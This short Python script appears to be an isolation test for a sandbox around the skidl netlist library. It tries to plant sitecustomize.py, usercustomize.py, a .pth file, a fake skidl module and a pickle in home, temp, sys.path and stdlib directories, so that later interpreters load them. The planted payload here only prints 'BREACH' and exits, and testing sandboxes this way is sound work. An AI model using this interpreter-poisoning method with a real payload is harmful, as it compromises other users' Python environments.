"""Leaves what later interpreters might load: customisation modules, pickles, libraries, in every place it can think of.

end: completed
"""

import os
import pickle
import site
import sys

bomb = "print('BREACH')\nraise SystemExit('BREACH')\n"
places = [".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", "."), "/tmp", *sys.path]
places += [os.path.dirname(os.__file__), os.path.dirname(site.__file__)]
for place in dict.fromkeys(places):
    for name in ("sitecustomize.py", "usercustomize.py", "skidl.py", "poison_sklib.py", "Device.kicad_sym", "bomb.pth"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write(bomb)
        except OSError:
            pass
    try:
        os.makedirs(os.path.join(place, "skidl"))
        with open(os.path.join(place, "skidl", "Device_kicad9.pkl"), "wb") as file:
            pickle.dump("BREACH", file)
    except OSError:
        pass
import skidl

skidl.Part = None
skidl.generate_netlist = None
print("tried")
